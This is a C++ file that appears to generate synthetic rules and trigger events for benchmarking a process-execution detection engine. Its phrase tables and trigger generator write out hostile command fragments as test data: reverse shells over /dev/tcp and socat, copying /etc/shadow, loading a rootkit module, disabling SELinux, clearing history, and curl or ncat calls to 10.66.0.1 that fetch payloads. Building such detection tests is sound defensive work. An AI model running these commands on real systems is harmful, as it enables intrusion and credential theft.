#include "bench/rules.h"

#include <array>
#include <cstdio>
#include <string_view>

namespace detectd::bench {
namespace {

// `%` stands for the rule's number.
constexpr std::array<std::string_view, 20> kPhrases = {
    "/dev/tcp/10.66.0.1/%",
    "base64 -d /tmp/.x%",
    "LD_PRELOAD=/tmp/.lib%.so",
    "/.ssh/authorized_keys.%",
    "stratum+tcp://pool%.example",
    "--reverse-shell=%",
    "chmod u+s /tmp/.%",
    "nsenter -t 1 -m -u -i job%",
    "mkfifo /tmp/.f%",
    "bash -i >& /dev/udp/%",
    "curl -k https://c%.example.net",
    "cp /etc/shadow /tmp/.%",
    "insmod /tmp/rk%.ko",
    "history -c; exit %",
    "setenforce 0; run %",
    "nmap -sS --script=%",
    "hydra -l root -P list%",
    "socat exec:sh,pty tcp:h%",
    "import pty;pty.spawn(%",
    "/proc/self/mem.%",
};
constexpr std::array<std::string_view, 4> kExecutables = {"/xmrig-%", "/.cache/%/sshd", "/linpeas%.sh",
                                                          "/kworkerd%"};
constexpr std::array<std::string_view, 4> kParents = {"nginx", "apache2", "postgres", "java"};

std::string fill(std::string_view pattern, size_t number) {
  std::array<char, 24> digits{};
  std::snprintf(digits.data(), digits.size(), "%05zu", number);
  std::string text;
  for (const char c : pattern) {
    if (c == '%') {
      text += digits.data();
    } else {
      text += c;
    }
  }
  return text;
}

enum class Shape { kContains, kEndsWith, kName, kContainsAll, kDaemonChild, kNamedParent, kRegex };

Shape shape_of(size_t number) {
  const size_t place = number % 20;
  if (place < 8) return Shape::kContains;
  if (place < 12) return Shape::kEndsWith;
  if (place < 14) return Shape::kName;
  if (place < 16) return Shape::kContainsAll;
  if (place < 18) return Shape::kDaemonChild;
  return place == 18 ? Shape::kNamedParent : Shape::kRegex;
}

template <size_t N>
std::string pick(const std::array<std::string_view, N>& from, size_t number) {
  return fill(from[number / 20 % N], number);
}
// Of the phrases every rule of a twenty takes another.
std::string phrase(size_t number) {
  return fill(kPhrases[(number % 8 + number / 20) % kPhrases.size()], number);
}

std::string detection(size_t number) {
  const auto text = [number](std::string_view pattern) { return fill(pattern, number); };
  switch (shape_of(number)) {
    case Shape::kContains:
      return "text.\"process.command_line|contains\" = '" + phrase(number) + "'\ncondition = \"text\"\n";
    case Shape::kEndsWith:
      return "image.\"process.executable|endswith\" = '" + pick(kExecutables, number) +
             "'\ncondition = \"image\"\n";
    case Shape::kName: return text("tool.\"process.name\" = ['chisel%', 'ligolo%']\ncondition = \"tool\"\n");
    case Shape::kContainsAll:
      return text(
          "fetch.\"process.command_line|contains|all\" = ['curl', '/payload%', '-o /tmp/']\n"
          "updater.\"process.parent.executable|endswith\" = '/updater%'\ncondition = \"fetch and not "
          "updater\"\n");
    case Shape::kDaemonChild:
      return "daemon.\"process.parent.name\" = '" + pick(kParents, number) + "'\n" +
             text("tool.\"process.name\" = ['ncat%', 'telnet%']\ncondition = \"daemon and tool\"\n");
    case Shape::kNamedParent:
      return text(
          "service.\"process.parent.name\" = ['gateway%', 'gateway%-worker']\n"
          "shell.\"process.name\" = ['sh', 'bash', 'dash']\ncondition = \"service and shell\"\n");
    case Shape::kRegex:
      return text(
          R"(fetch."process.command_line|re|s" = '(?:curl|wget)\s+(?:-\S+\s+)*https?://[a-z0-9.-]+/drop%/\w+\.sh')"
          "\ncondition = \"fetch\"\n");
  }
  return {};
}

}  // namespace

std::string rule_toml(size_t number) {
  return fill("[[rule]]\nid = \"00000000-0000-4000-8000-0000000%\"\nname = \"generated_%\"\n", number) +
         fill("title = \"Generated rule %\"\nlevel = \"medium\"\non = \"exec\"\n\n[rule.detection]\n",
              number) +
         detection(number) + '\n';
}

Trigger trigger_of(size_t number) {
  const auto text = [number](std::string_view pattern) { return fill(pattern, number); };
  switch (shape_of(number)) {
    case Shape::kContains: return {.parent = {}, .child = "/usr/bin/bash -c '" + phrase(number) + "'"};
    case Shape::kEndsWith: return {.parent = {}, .child = "/tmp" + pick(kExecutables, number) + " --quiet"};
    case Shape::kName: return {.parent = {}, .child = text("/opt/chisel% client 10.66.0.1 R:socks")};
    case Shape::kContainsAll:
      return {.parent = {}, .child = text("/usr/bin/curl -s http://10.66.0.1/payload% -o /tmp/p")};
    case Shape::kDaemonChild:
      return {.parent = "/usr/sbin/" + pick(kParents, number) + " -g",
              .child = text("/tmp/ncat% 10.66.0.1 4444")};
    case Shape::kNamedParent:
      return {.parent = text("/srv/bin/gateway% --serve"), .child = "/usr/bin/dash -c id"};
    case Shape::kRegex:
      return {.parent = {}, .child = text("/usr/bin/curl -fsSL http://10.66.0.1/drop%/stage.sh")};
  }
  return {};
}

}  // namespace detectd::bench
